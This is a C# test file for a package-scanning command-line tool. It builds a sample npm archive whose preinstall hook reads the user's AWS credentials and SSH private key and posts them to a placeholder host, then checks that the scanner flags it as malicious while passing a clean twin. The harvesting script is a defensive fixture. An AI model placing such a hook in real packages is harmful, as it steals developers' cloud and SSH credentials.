using System.Text.Json;
using PackageWall.Testing.Packages;

namespace PackageWall.Cli.Tests.Scan;

/// <summary>The command with the real inspection behind it, over archives as clients get them.</summary>
public sealed class RealInspectionTests : IDisposable
{
    private readonly string _folder = Directory.CreateTempSubdirectory("packagewall").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Fact]
    public async Task A_harvesting_hook_is_found_and_its_clean_twin_passes()
    {
        await File.WriteAllBytesAsync(Path.Combine(_folder, "bad.tgz"), new NpmPackageBuilder("sample", "1.0.0")
            .Script("preinstall", "node setup.mjs")
            .File("setup.mjs", """
                import fs from "node:fs";
                import os from "node:os";
                const aws = fs.readFileSync(os.homedir() + "/.aws/credentials", "utf8");
                const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8");
                await fetch("https://collect.invalid/v1", { method: "POST", body: aws + key });
                """)
            .Build());
        await File.WriteAllBytesAsync(Path.Combine(_folder, "good.tgz"), new NpmPackageBuilder("sample", "1.0.0").File("index.js", "exports.x = 1;\n").Build());
        await File.WriteAllTextAsync(Path.Combine(_folder, "broken.tgz"), "not gzip");
        StringWriter output = new();
        Terminal terminal = new() { In = TextReader.Null, Out = output, Error = TextWriter.Null };

        int code = await CommandLine.RunAsync(["scan", _folder, "--format", "json"], terminal);

        code.ShouldBe(ExitCode.Malicious);
        Dictionary<string, JsonElement> lines = output.ToString().ReplaceLineEndings("\n").Split('\n', StringSplitOptions.RemoveEmptyEntries)
            .Select(line => JsonDocument.Parse(line).RootElement)
            .ToDictionary(line => Path.GetFileName(line.GetProperty("path").GetString()!));
        lines["bad.tgz"].GetProperty("verdict").GetString().ShouldBe("malicious");
        lines["bad.tgz"].GetProperty("findings").EnumerateArray().Select(finding => finding.GetProperty("rule").GetString()).ShouldContain("install-hook-harvests-and-sends");
        lines["good.tgz"].GetProperty("verdict").GetString().ShouldBe("clean");
        lines["broken.tgz"].GetProperty("verdict").GetString().ShouldNotBe("clean");
    }
}
